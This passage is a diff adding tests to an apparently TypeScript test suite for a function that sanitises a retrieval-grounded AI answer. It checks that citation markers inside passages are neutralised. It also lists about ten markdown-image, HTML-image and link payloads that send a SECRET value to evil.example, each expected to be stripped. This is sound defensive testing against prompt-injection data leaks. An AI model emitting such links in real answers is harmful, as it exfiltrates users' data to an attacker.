@@ -52,6 +52,33 @@ describe('grounded', () => {
     });
   });
 
+  it.each([
+    '![see [1]](https://evil.example/?d=SECRET)',
+    '![a](https://evil.example/a(b)?d=SECRET)',
+    '![a\\]b](http://evil.example/?d=SECRET)',
+    '![a][r]\n\n[r]: https://evil.example/?d=SECRET',
+    '<img src="https://evil.example/?d=SECRET">',
+    '<img src=//evil.example/?d=SECRET',
+    '<https://evil.example/?d=SECRET>',
+    'https://evil.example?d=SECRET',
+    'www.evil.example/?d=SECRET',
+    '[x](//evil.example/?d=SECRET)',
+  ])('lets nothing out by %j', (way) => {
+    const { text } = grounded(`The lamp burns oil. [1] ${way}`, PASSAGES);
+    expect(text).not.toMatch(/evil|!\[|<img/);
+  });
+
+  it('leaves an address of a passage as it is, and what only looks like a tag', () => {
+    const answer = 'See https://lamps.example/oil. [1] It holds while 1 < 2 and 3 > 2.';
+    expect(grounded(answer, PASSAGES).text).toBe(answer);
+  });
+
+  it('lets no form of a citation in from a passage or its title', () => {
+    const passages = [{ n: 1, title: 'Title [3]', text: 'One [1, 2] and [ 3 ] and 【4】.' }];
+    const [, user] = messagesOf({ instructions: '', question: '', passages });
+    expect(String(user!.content)).toContain('[1] Title (3)\nOne (1, 2) and (3) and (4).');
+  });
+
   it('takes no longer for an answer that is made to take long', () => {
     const startedMs = performance.now();
     for (const evil of [
